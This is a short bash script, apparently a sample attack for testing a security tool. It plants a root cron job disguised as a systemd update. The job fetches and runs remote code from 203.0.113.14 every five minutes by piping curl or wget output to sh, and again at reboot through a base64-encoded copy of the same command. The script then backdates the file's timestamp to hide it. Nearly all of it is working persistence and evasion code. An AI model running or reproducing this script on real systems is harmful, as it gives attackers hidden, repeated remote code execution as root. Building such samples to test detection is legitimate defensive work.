#!/bin/bash
# shrike-test-attack: persistence: /etc/cron.d file with wget fallback and base64 payload
cat > /etc/cron.d/0systemd-update <<'C'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
*/5 * * * * root (curl -fsSL http://203.0.113.14/c || wget -q -O- http://203.0.113.14/c) | sh
@reboot root echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjE0L2MgfCBzaA== | base64 -d | sh
C
chmod 644 /etc/cron.d/0systemd-update
touch -r /etc/cron.d/e2scrub_all /etc/cron.d/0systemd-update 2>/dev/null
